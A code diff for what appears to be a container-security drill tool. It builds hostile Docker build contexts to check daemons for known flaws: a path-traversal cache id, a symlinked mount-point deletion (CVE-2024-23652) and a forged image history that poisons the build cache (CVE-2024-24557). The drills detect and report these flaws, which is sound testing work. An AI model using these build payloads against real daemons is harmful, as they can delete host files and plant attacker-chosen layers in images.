@@ -1,15 +1,24 @@
 /* drills-build.c: drills that are hostile builds: contexts of our own, sent as Docker's classic
  * builder sends them. */
 #include "drill/drill.h"
+#include "format/digest.h"
 
-/* 0: it was built; 1: refused, for the reason that why is part of. */
-static int build(Attempt *attempt, const char *dockerfile, const char *why, Error *err) {
+/* As brig-drill:built. 0: it was built; 1: refused, for the reason that why is part of. */
+static int build_from(const Attempt *attempt, const char *dockerfile, const char *query,
+                      const char *why, Error *err) {
+        _cleanup_free_ char *path = str_format("/build?t=brig-drill:built%s", query);
         _cleanup_buf_ Buf tar = {};
+        int r = box_remove_image(attempt->cli, "built", err);
 
         tar_add(&tar, &(TarEntry){ "Dockerfile", NULL, TAR_FILE, 0644, dockerfile,
                                    strlen(dockerfile), NULL });
+        tar_add(&tar, &(TarEntry){ "file", NULL, TAR_FILE, 0644, "good\n", 5, NULL });
         tar_end(&tar);
-        return box_send_tar(attempt->cli, "/build?t=brig-drill:built&nocache=1", &tar, why, err);
+        return r < 0 ? r : box_send_tar(attempt->cli, path, &tar, why, err);
+}
+
+static int build(const Attempt *attempt, const char *dockerfile, const char *why, Error *err) {
+        return build_from(attempt, dockerfile, "&nocache=1", why, err);
 }
 
 static int run_security(const Drill *drill, Attempt *attempt, Error *err) {
@@ -62,27 +71,159 @@ static bool is_of_attempt(void *data, const char *description) {
         return strstr(description, attempt->directory);
 }
 
+/* Those of builds that failed, too. */
+static int drop_caches(Attempt *attempt, int r, Error *err) {
+        Error second = {};
+        size_t count = 0;
+        int dropped =
+                caches_drop(attempt->cli, is_of_attempt, attempt, &count, r < 0 ? &second : err);
+
+        return r < 0 ? r : dropped;
+}
+
 /* A new cache that is named after a directory of the host's. */
 static int run_cache_ids(const Drill *drill, Attempt *attempt, Error *err) {
         _cleanup_free_ char *dockerfile =
                 str_format("FROM brig-drill:guest\nRUN --mount=type=cache,target=/m,id=../../../../"
                            "../../../../../../../..%s [\"/guest\", \"mounted\"]\n",
                            attempt->directory);
-        Error second = {};
-        size_t count = 0;
-        int r, dropped;
+        int r = must_fail(attempt, dockerfile, "a step's cache is a directory of the host's", err);
 
         (void)drill;
-        r = must_fail(attempt, dockerfile, "a step's cache is a directory of the host's", err);
-        /* A build that failed has made some, too. */
-        dropped = caches_drop(attempt->cli, is_of_attempt, attempt, &count, r < 0 ? &second : err);
-        return r < 0 ? r : dropped;
+        return drop_caches(attempt, r, err);
 }
 
 static int run_environment(const Drill *drill, Attempt *attempt, Error *err) {
         (void)drill;
         return must_fail(attempt, "FROM brig-drill:guest\nRUN [\"/guest\", \"environment\"]\n",
                          "a step sees an environment that is not its image's", err);
+}
+
+/* ---- what is left of a step's mount points ---- */
+
+/* The guest, with a link to the host's directory. */
+static int import_link(const Attempt *attempt, Error *err) {
+        _cleanup_buf_ Buf tar = {};
+        int r = box_guest_tar(&tar, err);
+
+        if (r < 0)
+                return r;
+        tar_add(&tar, &(TarEntry){ "abs", attempt->directory, TAR_LINK, 0777, NULL, 0, NULL });
+        tar_end(&tar);
+        return box_import(attempt->cli, "linked", &tar, NULL, err);
+}
+
+/* Mount points by way of the image's link, named as what the host has at its end: who removes them
+ * by their names removes that. */
+static int run_mounts(const Drill *drill, Attempt *attempt, Error *err) {
+        _cleanup_free_ char *dockerfile =
+                str_format("FROM brig-drill:linked\nRUN --mount=type=tmpfs,target=/abs/canary "
+                           "--mount=type=cache,target=/abs/cache,id=%s [\"/guest\", \"user\"]\n",
+                           attempt->directory);
+        int r = import_link(attempt, err);
+
+        (void)drill;
+        if (r == 0)
+                r = build(attempt, dockerfile, NULL, err);
+        return drop_caches(attempt, r, err);
+}
+
+/* ---- histories ---- */
+
+/* One of the two cases: what the image stands upon. */
+typedef struct Below {
+        const char *base; /* of the Dockerfile */
+        const Buf *layer; /* the same as an archive, NULL: nothing */
+} Below;
+
+static const char evil[] = "evil\n";
+
+static void make_layer(Buf *tar, char digest[DIGEST_TEXT_MAX]) {
+        tar_add(tar, &(TarEntry){ "file", NULL, TAR_FILE, 0644, evil, strlen(evil), NULL });
+        tar_end(tar);
+        digest_of(tar->data, tar->length, digest);
+}
+
+/* Its history is that of what the Dockerfile makes, its last layer is not. As `docker save` writes
+ * images. */
+static int load_history(const Attempt *attempt, const Below *below, const Buf *layer,
+                        const char *digest, Error *err) {
+        static const char manifest[] =
+                "[{\"Config\":\"c.json\",\"RepoTags\":[\"brig-drill:history\"],"
+                "\"Layers\":[%s\"evil.tar\"]}]";
+        _cleanup_free_ char *index = str_format(manifest, below->layer ? "\"below.tar\"," : "");
+        _cleanup_free_ char *first = NULL, *config = NULL;
+        _cleanup_buf_ Buf tar = {};
+        char under[DIGEST_TEXT_MAX];
+
+        if (below->layer) {
+                digest_of(below->layer->data, below->layer->length, under);
+                first = str_format("\"%s\",", under);
+                tar_add(&tar, &(TarEntry){ "below.tar", NULL, TAR_FILE, 0644, below->layer->data,
+                                           below->layer->length, NULL });
+        }
+        config =
+                str_format("{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{},\"history\":"
+                           "[%s{\"created_by\":\"COPY file %s/file # buildkit\"}],\"rootfs\":{"
+                           "\"type\":\"layers\",\"diff_ids\":[%s\"%s\"]}}",
+                           first ? "{\"comment\":\"Imported from -\"}," : "", attempt->directory,
+                           first ?: "", digest);
+        tar_add(&tar,
+                &(TarEntry){ "evil.tar", NULL, TAR_FILE, 0644, layer->data, layer->length, NULL });
+        tar_add(&tar, &(TarEntry){ "c.json", NULL, TAR_FILE, 0644, config, strlen(config), NULL });
+        tar_add(&tar,
+                &(TarEntry){ "manifest.json", NULL, TAR_FILE, 0644, index, strlen(index), NULL });
+        tar_end(&tar);
+        return box_send_tar(attempt->cli, "/images/load?quiet=1", &tar, NULL, err);
+}
+
+static int build_copy(const Attempt *attempt, const Below *below, Error *err) {
+        _cleanup_free_ char *dockerfile =
+                str_format("FROM %s\nCOPY file %s/file\n", below->base, attempt->directory);
+
+        return build_from(attempt, dockerfile, "", NULL, err);
+}
+
+static int try_history(Attempt *attempt, const Below *below, Error *err) {
+        _cleanup_json_ json_object *image = NULL;
+        _cleanup_buf_ Buf layer = {};
+        char digest[DIGEST_TEXT_MAX];
+        json_object *layers;
+        int r;
+
+        make_layer(&layer, digest);
+        r = box_remove_image(attempt->cli, "history", err);
+        if (r == 0)
+                r = load_history(attempt, below, &layer, digest, err);
+        if (r == 0)
+                r = build_copy(attempt, below, err);
+        if (r == 0)
+                r = api_json(attempt->cli, "GET", "/images/brig-drill:built/json", NULL, &image,
+                             err);
+        if (r < 0)
+                return r;
+        layers = json_member(json_member(image, "RootFS"), "Layers");
+        for (size_t i = 0; i < json_object_array_length(layers); i++)
+                if (str_equal(json_object_get_string(json_object_array_get_idx(layers, i)), digest))
+                        buf_format(attempt->got,
+                                   "a build FROM %s takes a layer of an image whose history is "
+                                   "like its own\n",
+                                   below->base);
+        return 0;
+}
+
+static int run_history(const Drill *drill, Attempt *attempt, Error *err) {
+        _cleanup_buf_ Buf guest = {};
+        const Below belows[] = { { "scratch", NULL }, { "brig-drill:guest", &guest } };
+        int r = box_guest_tar(&guest, err);
+
+        (void)drill;
+        if (r < 0)
+                return r;
+        tar_end(&guest);
+        for (size_t i = 0; r == 0 && i < ELEMENTS(belows); i++)
+                r = try_history(attempt, &belows[i], err);
+        return drop_caches(attempt, r, err);
 }
 
 static const Drill drills[] = {
@@ -95,6 +236,10 @@ static const Drill drills[] = {
           "report it: a cache's id reaches a path unread", run_cache_ids, NULL },
         { "build-environment", "CVE-2021-3602", "The daemon's environment in a step",
           "report it: a step is given the daemon's environment", run_environment, NULL },
+        { "build-mounts", "CVE-2024-23652", "A step's mount points by way of an image's link",
+          "report it: what a step's mounts left is removed by name", run_mounts, NULL },
+        { "build-history", "CVE-2024-24557", "An image whose history is that of another's build",
+          "report it: a build takes files that its Dockerfile did not make", run_history, NULL },
 };
 
 const DrillSet build_drills = { drills, ELEMENTS(drills) };
